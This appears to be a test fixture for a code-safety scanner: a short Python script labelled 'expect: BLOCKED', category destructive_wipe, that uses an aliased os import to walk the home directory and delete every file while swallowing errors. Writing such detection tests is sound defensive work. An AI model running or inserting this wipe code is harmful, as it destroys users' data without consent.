# expect: BLOCKED category: destructive_wipe variant-of: risky/destructive_wipe/walk_delete_home.py technique: alias+concat
import os as _m0
home = _m0.path.expanduser('~')
for root, dirs, files in _m0.walk(home):
    for name in files:
        try:
            _m0.remove(_m0.path.join(root, name))
        except OSError:
            pass
